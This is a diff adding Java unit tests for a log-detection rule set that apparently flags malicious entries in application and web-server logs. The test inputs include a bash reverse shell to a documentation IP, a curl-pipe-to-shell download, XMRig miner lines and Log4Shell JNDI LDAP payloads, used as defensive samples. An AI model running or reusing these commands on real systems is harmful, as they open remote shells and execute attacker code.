@@ -134,6 +134,36 @@ class LogRulesTest {
                 .containsExactlyInAnyOrder("CMD-003 critical", "LOG-001 critical", "LOG-001 critical");
     }
 
+    /** The version of HTTP whoever writes a line may add to it. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                " * ABOUT        XMRig/6.22.0 gcc/13.2.1 HTTP/1",
+                "net      use pool pool.example:14433 HTTP/1.1",
+                "sh: connect: Connection refused: bash -i >& /dev/tcp/203.0.113.7/9001 0>&1 # HTTP/1.1",
+                "running: curl -X POST -s http://203.0.113.9/a | sh; echo HTTP/1.1"
+            })
+    void takesNoLineForARequestThatOnlyNamesItsVersion(String entry) {
+        line("app", 1, entry);
+        assertThat(rules.findings().findings()).extracting(Finding::severity).allMatch(s -> s.atLeast(Severity.HIGH));
+        assertThat(rules.findings().findings()).isNotEmpty();
+    }
+
+    /** Without a method that is known, and in a log of errors. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "203.0.113.1:4711 - \"${jndi:ldap://203.0.113.7/a} HTTP/1.1\" 400 Bad Request",
+                "[error] 7#7: *1 open() failed, client: 203.0.113.1, request: \"${jndi:ldap://203.0.113.7/a} HTTP/1.0\", host: \"x\"",
+                "203.0.113.1 PROPFIND ${jndi:ldap://203.0.113.7/a} HTTP/1.1"
+            })
+    void takesWhatAServerQuotesForARequest(String entry) {
+        line("web", 1, entry);
+        assertThat(rules.findings().findings())
+                .extracting(f -> f.rule().id() + " " + f.severity().word())
+                .containsExactly("LOG-002 medium");
+    }
+
     /** The keys of a recording, and what they came to. */
     @ParameterizedTest
     @ValueSource(
